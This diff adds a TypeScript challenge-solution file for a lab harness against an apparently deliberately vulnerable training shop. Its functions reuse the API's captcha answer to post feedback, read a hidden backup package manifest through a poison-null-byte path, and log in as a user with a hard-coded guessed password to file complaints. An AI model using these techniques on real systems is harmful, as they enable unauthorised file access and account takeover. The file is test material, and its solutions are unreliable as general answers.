@@ -1,0 +1,65 @@
+import type { Attack, Tools } from '#lab'
+
+interface Captcha {
+  captchaId: number
+  answer: string
+}
+
+/** Tells the shop something by way of its feedback form. */
+async function tell({ http, expect }: Tools, words: string): Promise<void> {
+  const { captchaId, answer } = (await http.get('/rest/captcha/')).json<Captcha & Record<string, unknown>>()
+  const comment = `${words} (anonymous)`
+  const sent = await http.post('/api/Feedbacks/', { captchaId, captcha: answer, comment, rating: 3 })
+  expect(sent.status === 201, `the feedback was answered with ${sent.status}`)
+}
+
+/** Tells the shop something by way of a complaint: Jim's. */
+async function complain({ http, expect, settings }: Tools, message: string): Promise<void> {
+  const login = await http.post('/rest/user/login', { email: `jim@${settings.domain}`, password: 'ncc-1701' })
+  expect(login.status === 200, `the login answered with ${login.status}`)
+  const { token } = login.json<{ authentication: { token: string } }>().authentication
+  const sent = await http.post('/api/Complaints/', { message }, { token })
+  expect(sent.status === 201, `the complaint was answered with ${sent.status}`)
+}
+
+/** What stands in the list of ingredients that a developer left behind. */
+async function manifestLists({ http, expect }: Tools, line: string): Promise<void> {
+  const answer = await http.get('/ftp/package.json.bak%2500.md')
+  expect(answer.status === 200, `the manifest answered with ${answer.status}`)
+  expect(answer.text.includes(line), `the manifest does not list ${line}`)
+}
+
+const LIBRARY = 'knownVulnerableComponentChallenge'
+const RELEASE = 'supplyChainAttackChallenge'
+
+export const attacks: Attack[] = [
+  {
+    challenge: LIBRARY,
+    name: 'read the old manifest and report sanitize-html 1.4.2',
+    run: async (tools) => {
+      await manifestLists(tools, '"sanitize-html": "1.4.2"')
+      await tell(tools, 'sanitize-html 1.4.2 is non-recursive.')
+    },
+  },
+  {
+    challenge: LIBRARY,
+    name: 'read the old manifest and complain about express-jwt 0.1.3',
+    run: async (tools) => {
+      await manifestLists(tools, '"express-jwt": "0.1.3"')
+      await complain(tools, 'Version 0.1.3 of Express-JWT has broken crypto.')
+    },
+  },
+  {
+    challenge: RELEASE,
+    name: 'read the old manifest and report the issue on eslint-scope',
+    run: async (tools) => {
+      await manifestLists(tools, '"eslint-scope": "3.7.2"')
+      await tell(tools, 'Turn on 2FA! Now!!! https://github.com/eslint/eslint-scope/issues/39')
+    },
+  },
+  {
+    challenge: RELEASE,
+    name: 'complain with the number of the advisory',
+    run: (tools) => complain(tools, 'Have you seen npm:eslint-scope:20180712?'),
+  },
+]
